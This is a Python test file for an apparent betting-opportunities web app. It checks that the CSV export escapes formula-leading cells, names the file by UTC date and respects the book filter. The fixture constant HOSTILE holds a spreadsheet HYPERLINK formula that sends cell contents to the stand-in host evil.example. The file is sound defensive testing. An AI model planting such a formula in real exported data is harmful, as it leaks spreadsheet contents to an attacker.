"""The opportunities CSV (which users open in spreadsheets) never carries a live formula, is
named dugout-opportunities-<UTC date>.csv and follows the filters."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

from app.models import OpportunityRow

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"refresh")'
NOW = datetime(2026, 7, 4, 18, 0, tzinfo=UTC)


def _opp(book: str, explanation: str, fingerprint: str) -> OpportunityRow:
    return OpportunityRow(
        strategy="steam",
        game_key="g1",
        market="h2h",
        side="home",
        book=book,
        price=-110,
        point=None,
        fair_prob=0.55,
        ev=0.04,
        kelly_fraction=0.01,
        data_available_at=NOW - timedelta(seconds=5),
        detected_at=NOW,
        latency_ms=5000.0,
        explanation=explanation,
        fingerprint=fingerprint,
    )


def test_exported_cells_are_neutralised(app, login_as, db) -> None:
    """Before the fix the row came back as `=HYPERLINK(...)` and the CSV export ran it."""
    app.extensions["dugout.clock"] = lambda: NOW
    with db.session() as s:
        s.add_all([_opp("@evil", HOSTILE, "f" * 64), _opp("fanduel", "plain", "e" * 64)])
    viewer = login_as("viewer")
    r = viewer.callback(
        "opp-download.data",
        [{"id": "opp-csv", "property": "n_clicks", "value": 1}],
        state=[
            {"id": "opp-strategy", "property": "value", "value": None},
            {"id": "opp-min-ev", "property": "value", "value": None},
            {"id": "opp-book", "property": "value", "value": "@evil"},
            {"id": "opp-all-ev", "property": "value", "value": False},
            {"id": "display-tz", "property": "value", "value": "UTC"},
        ],
    )
    assert r.status_code == 200, r.data
    data = json.loads(r.data)["response"]["opp-download"]["data"]
    assert data["filename"] == "dugout-opportunities-2026-07-04.csv"
    header, *rows = list(csv.reader(io.StringIO(data["content"])))
    assert header[:3] == ["Bet", "Price", "Book"]
    assert len(rows) == 1  # the book filter holds
    cells = rows[0]
    assert "'" + HOSTILE in cells and "'@evil" in cells and "-110" in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(
        c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit() for c in cells
    )
